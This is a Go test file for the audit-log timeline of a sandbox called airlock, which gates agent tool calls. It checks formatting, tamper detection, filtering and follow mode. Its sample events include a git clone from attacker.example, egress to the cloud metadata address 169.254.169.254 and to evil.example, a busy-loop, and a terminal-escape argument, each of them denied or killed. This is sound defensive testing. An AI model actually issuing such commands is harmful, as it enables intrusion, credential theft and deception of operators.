package audit

import (
	"bytes"
	"context"
	"os"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/airlock-sandbox/airlock/decision"
	"github.com/airlock-sandbox/airlock/internal/testutil"
)

func TestTimeline(t *testing.T) {
	clk := newTestClock()
	l, path := openTest(t, WithClock(clk.now))
	git := denial("run_tests", "git", "clone", "https://attacker.example/repo")
	git.Context.RunID = "run-3f2a9c81d0e4"
	for _, ev := range []Event{
		git,
		FromDecision(decision.Decision{Gate: decision.GateEgress, Verdict: decision.Deny,
			Reason: "always blocked"}, Context{Task: "web_search", Host: "169.254.169.254", Port: 80}),
		{Kind: KindResource, Decision: DecisionKill, Reason: "wall-clock cap of 2s reached",
			Context: Context{Tool: "run_tests", Command: "python3", Args: []string{"-c", "while True: pass"}, KilledBy: "wall"}},
		{Kind: KindBehavioral, Decision: DecisionAlert, Reason: "a run was killed by its wall cap",
			Context: Context{Tool: "run_tests", Alert: "resource_kill"}},
		// A hostile argument tries to drive the terminal and disguise text.
		denial("read_file", "cat", "\x1b]0;pwned\x07\u202eabc"),
	} {
		if _, err := l.Append(ev); err != nil {
			t.Fatal(err)
		}
	}
	b, _ := os.ReadFile(path)
	var out bytes.Buffer
	if _, err := Timeline(context.Background(), &out, bytes.NewReader(b), TimelineOptions{Location: time.UTC}); err != nil {
		t.Fatal(err)
	}
	want := `--- 2026-05-01 UTC
12:00:01 -                -            chain_started: audit log started: every later line is chained to this one
12:00:01 run-3f2a9c81d0e4 run_tests    git clone https://attacker.example/repo denied at the command gate: "git" is not in the allowlist of tool "run_tests"
12:00:02 -                web_search   169.254.169.254:80 denied at the egress gate: always blocked
12:00:03 -                run_tests    python3 -c "while True: pass" killed by the wall cap: wall-clock cap of 2s reached
12:00:04 -                run_tests    ALERT resource_kill: a run was killed by its wall cap
12:00:05 -                read_file    cat "\x1b]0;pwned\a\u202eabc" denied at the command gate: "cat" is not in the allowlist of tool "read_file"
`
	if out.String() != want {
		t.Errorf("timeline:\n%s\nwant:\n%s", out.String(), want)
	}

	// A tampered log: the bad line is named, later events are marked.
	lines := readLines(t, path)
	lines[2] = bytes.Replace(lines[2], []byte("denied"), []byte("DENIED"), 1)
	lines[2] = bytes.Replace(lines[2], []byte(`"deny"`), []byte(`"allow"`), 1)
	out.Reset()
	_, err := Timeline(context.Background(), &out, bytes.NewReader(join(lines)), TimelineOptions{Location: time.UTC})
	if e, ok := err.(*Error); !ok || e.Line != 3 {
		t.Fatalf("Timeline of a tampered log returned %v, want line 3", err)
	}
	if !strings.Contains(out.String(), "!! line 3: "+reasonBadHash+"\n? 12:00:03 -                run_tests    python3") {
		t.Errorf("tampered timeline:\n%s", out.String())
	}
}

func TestTimelineFollow(t *testing.T) {
	l, path := openTest(t)
	if _, err := l.Append(denial("run_tests", "first")); err != nil {
		t.Fatal(err)
	}
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	ctx, cancel := context.WithCancel(context.Background())
	var out testutil.SyncBuffer
	done := make(chan error, 1)
	go func() {
		_, err := Timeline(ctx, &out, f, TimelineOptions{Follow: true, Poll: 5 * time.Millisecond})
		done <- err
	}()
	waitFor(t, &out, "first denied")
	if _, err := l.Append(denial("run_tests", "second")); err != nil {
		t.Fatal(err)
	}
	waitFor(t, &out, "second denied")
	cancel()
	if err := <-done; err != nil {
		t.Fatalf("Follow ended with %v", err)
	}
}

func waitFor(t *testing.T, out *testutil.SyncBuffer, s string) {
	t.Helper()
	for deadline := time.Now().Add(10 * time.Second); time.Now().Before(deadline); time.Sleep(5 * time.Millisecond) {
		if strings.Contains(out.String(), s) {
			return
		}
	}
	t.Fatalf("timeline never showed %q:\n%s", s, out.String())
}

func TestDefaultPath(t *testing.T) {
	t.Setenv("AIRLOCK_AUDIT", "/x/a.jsonl")
	t.Setenv("XDG_STATE_HOME", "/state")
	t.Setenv("HOME", "/home/u")
	for _, tc := range []struct{ audit, xdg, want string }{
		{"/x/a.jsonl", "/state", "/x/a.jsonl"},
		{"", "/state", "/state/airlock/audit.jsonl"},
		{"", "relative", "/home/u/.local/state/airlock/audit.jsonl"},
		{"", "", "/home/u/.local/state/airlock/audit.jsonl"},
	} {
		t.Setenv("AIRLOCK_AUDIT", tc.audit)
		t.Setenv("XDG_STATE_HOME", tc.xdg)
		if got, err := DefaultPath(); err != nil || got != tc.want {
			t.Errorf("AIRLOCK_AUDIT=%q XDG_STATE_HOME=%q: %q, %v; want %q", tc.audit, tc.xdg, got, err, tc.want)
		}
	}
}

func TestEventsSkipsDamagedLines(t *testing.T) {
	_, lines := writeLog(t, 3)
	lines = slices.Insert(lines, 2, []byte("garbage\n"))
	data := append(join(lines), "torn"...)
	var seqs []uint64
	var bad []int
	for ev, err := range Events(bytes.NewReader(data)) {
		if err != nil {
			e, ok := err.(*Error)
			if !ok {
				t.Fatal(err)
			}
			bad = append(bad, e.Line)
			continue
		}
		seqs = append(seqs, ev.Seq)
	}
	if !slices.Equal(seqs, []uint64{1, 2, 3, 4}) || !slices.Equal(bad, []int{3, 6}) {
		t.Errorf("events %v, damaged lines %v; want [1 2 3 4] and [3 6]", seqs, bad)
	}
}

// TestTimelineFilterJSONUnits: the filters select events (all still
// verified), --json writes one object per event, byte counts are shown
// in IEC units and times relative to now.
func TestTimelineFilterJSONUnits(t *testing.T) {
	clk := newTestClock()
	l, path := openTest(t, WithClock(clk.now))
	for i, ev := range []Event{
		denial("run_tests", "git"),
		{Kind: KindResource, Decision: DecisionInfo, Reason: "exit status 0 after 2 ms wall and 2 ms CPU, peak memory 1048576 bytes",
			Context: Context{Tool: "read_file", Command: "cat"}},
		FromDecision(decision.Decision{Gate: decision.GateEgress, Verdict: decision.Deny, Reason: "no"},
			Context{Task: "web_search", Host: "evil.example", Port: 443}),
	} {
		ev.Context.RunID = []string{"run-a", "run-b", "run-a"}[i]
		if _, err := l.Append(ev); err != nil {
			t.Fatal(err)
		}
	}
	b, _ := os.ReadFile(path)
	show := func(opts TimelineOptions) string {
		t.Helper()
		opts.Location = time.UTC
		var out bytes.Buffer
		if _, err := Timeline(context.Background(), &out, bytes.NewReader(b), opts); err != nil {
			t.Fatal(err)
		}
		return out.String()
	}
	for _, tc := range []struct {
		name string
		f    Filter
		want []string // the subjects shown
	}{
		{"run", Filter{Run: "run-a"}, []string{"git", "evil.example:443"}},
		{"session", Filter{Session: "run-b"}, []string{"cat"}},
		{"tool", Filter{Tool: "read_file"}, []string{"cat"}},
		{"kind", Filter{Kinds: []Kind{KindEgress, KindResource}}, []string{"cat", "evil.example:443"}},
		{"since", Filter{Since: time.Date(2026, 5, 1, 12, 0, 3, 0, time.UTC)}, []string{"evil.example:443"}},
	} {
		got := show(TimelineOptions{Filter: tc.f})
		n := strings.Count(got, "\n") - 1 // the date line
		for _, w := range tc.want {
			if !strings.Contains(got, w) {
				t.Errorf("%s: %q not shown:\n%s", tc.name, w, got)
			}
		}
		if n != len(tc.want) {
			t.Errorf("%s: %d events shown, want %d:\n%s", tc.name, n, len(tc.want), got)
		}
	}
	got := show(TimelineOptions{Filter: Filter{Tool: "read_file"}, Now: func() time.Time { return clk.t.Add(3 * time.Minute) }})
	if !strings.Contains(got, "peak memory 1.0 MiB") || !strings.Contains(got, " 3m ago 12:00:02") {
		t.Errorf("units and relative times:\n%s", got)
	}
	got = show(TimelineOptions{JSON: true, Filter: Filter{Run: "run-a"}})
	lines := strings.Split(strings.TrimSpace(got), "\n")
	if len(lines) != 2 || !strings.HasPrefix(lines[0], `{"line":2,"verified":true,"event":{"seq":2,`) {
		t.Errorf("--json:\n%s", got)
	}
	for _, c := range []struct {
		d    time.Duration
		want string
	}{{0, "now"}, {42 * time.Second, "42s ago"}, {3 * time.Minute, "3m ago"}, {5 * time.Hour, "5h ago"}, {72 * time.Hour, "3d ago"}} {
		if got := Ago(c.d); got != c.want {
			t.Errorf("Ago(%v) = %q", c.d, got)
		}
	}
	for n, want := range map[int64]string{512: "512 bytes", 1024: "1.0 KiB", 1536: "1.5 KiB", 1 << 20: "1.0 MiB", 5 << 30: "5.0 GiB"} {
		if got := Bytes(n); got != want {
			t.Errorf("Bytes(%d) = %q, want %q", n, got, want)
		}
	}
}
